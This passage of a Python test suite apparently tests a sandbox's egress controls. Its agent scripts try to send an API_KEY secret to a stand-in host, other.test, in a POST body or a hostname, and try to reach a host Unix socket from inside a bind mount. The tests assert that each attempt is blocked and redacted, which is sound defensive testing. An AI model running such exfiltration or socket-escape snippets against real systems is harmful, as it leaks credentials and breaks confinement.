            "    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
            "    s.sendall(b'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (host.encode(), host.encode()))\n"
            "    print(host, s.recv(200).split(b'\\r\\n')[0].decode())\n")
    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
    m["entrypoint"] = ["python3", "/agent/main.py", f"llm.test:{upstream.port}",
                       f"other.test:{upstream.port}"]
    d = renv.agent("tunnels", m, code)
    r, events = renv.run(d)
    res, run_dir = renv.result(events)
    out = (run_dir / "stdout").read_text()
    assert f"llm.test:{upstream.port} HTTP/1.1 200" in out, out
    assert f"other.test:{upstream.port} HTTP/1.1 403" in out, out
    blocked = [e for e in events if e["type"] == "egress.blocked"]
    assert any("raw secret API_KEY" in e["blocked_reason"] for e in blocked)


def test_long_raw_secret_is_inspected_by_chunks(renv, upstream):
    import random
    rnd = random.Random(7)
    long = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(10000))
    r = renv.cordon("secret", "set", "API_KEY", input=long)
    assert r.returncode == 0
    code = (f"import os, urllib.request, urllib.error\n"
            f"part = os.environ['API_KEY'][3000:5500]\n"
            f"req = urllib.request.Request('http://other.test:{upstream.port}/x', data=part.encode())\n"
            "try:\n    print(urllib.request.urlopen(req, timeout=10).status)\n"
            "except urllib.error.HTTPError as e:\n    print(e.code)\n")
    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
    d = renv.agent("long", m, code)
    r, events = renv.run(d)
    res, run_dir = renv.result(events)
    assert (run_dir / "stdout").read_text().strip() == "403"
    cov = res["protections"]["secrets"]["API_KEY"]
    assert cov["delivery"] == "raw" and "chunks" in cov["inspection"]
    for (_, _, _, body) in upstream.log:
        assert long[3000:3100].encode() not in body


def test_secret_in_a_host_name_stays_out_of_the_audit_log_and_events(renv, upstream):
    """The engine lower-cases host names; redaction of the audit log and the
    events matches the lower-cased value too."""
    mixed = "AbCdEfGh12345678IjKlMnOp"
    r = renv.cordon("secret", "set", "API_KEY", input=mixed)
    assert r.returncode == 0
    renv.policy.write_text("version: 1\ndomains:\n"
                           f"  - name: '*.llm.test'\n    ports: [{upstream.port}]\n    random_labels: true\n")
    code = (f"import os, urllib.request\n"
            f"try:\n    urllib.request.urlopen('http://' + os.environ['API_KEY'] + '.llm.test:{upstream.port}/', timeout=10)\n"
            "except Exception as e:\n    print(type(e).__name__)\n")
    m = sealed_manifest(domains=["*.llm.test"],
                        secrets={"API_KEY": {"domains": ["api.llm.test"], "raw": True}})
    d = renv.agent("hostleak", m, code)
    r, events = renv.run(d)
    res, run_dir = renv.result(events)
    assert any(e["type"] == "egress.blocked" for e in events)
    for f in run_dir.rglob("*"):
        if f.is_file():
            data = f.read_bytes()
            for form in (mixed, mixed.lower(), mixed.upper()):
                assert form.encode() not in data, (f, form)


UNIX_CLIENT = r'''
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1])
    s.sendall(b"hello")
    print("ESCAPED", s.recv(100).decode())
except OSError as e:
    print("BLOCKED", e)
'''


def test_unix_socket_inside_a_bind_is_refused(tmp_path):
    """A socket in a bound tree (an ssh-agent or Docker socket in a home
    directory) would let the sandbox reach whatever serves it."""
    import socket
    import threading
    data = tmp_path / "data"
    (data / "deep").mkdir(parents=True)
    # the sandbox's user may use the tree for both flags, so the socket is
    # what is refused, not the directory's permissions
    os.chmod(data, 0o777)
    os.chmod(data / "deep", 0o777)
    path = data / "deep" / "service.sock"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(path))
    os.chmod(path, 0o777)
    srv.listen(1)

    def serve():
        try:
            c, _ = srv.accept()
            c.recv(100)
            c.sendall(b"host service")
            c.close()
        except OSError:
            pass
    threading.Thread(target=serve, daemon=True).start()
    (tmp_path / "client.py").write_text(UNIX_CLIENT)
    os.chmod(tmp_path, 0o755)
    try:
        for flag in ("--ro", "--rw"):
            r = run([CORDON, "exec", flag, f"{data}:/data", "--ro", f"{tmp_path / 'client.py'}:/c.py",
                     "--", "python3", "/c.py", "/data/deep/service.sock"])
            assert r.returncode == 125, (flag, r.stdout, r.stderr)
            assert "service.sock" in r.stderr and "--allow-sockets" in r.stderr
        r = run([CORDON, "exec", "--workspace", data, "--", "true"])
        assert r.returncode == 125 and "service.sock" in r.stderr
        # The operator may allow it, knowingly.
        r = run([CORDON, "exec", "--allow-sockets", "--ro", f"{data}:/data", "--ro",
                 f"{tmp_path / 'client.py'}:/c.py", "--", "python3", "/c.py", "/data/deep/service.sock"])
        assert r.returncode == 0 and r.stdout.startswith(("ESCAPED", "BLOCKED")), r.stdout + r.stderr
    finally:
        srv.close()
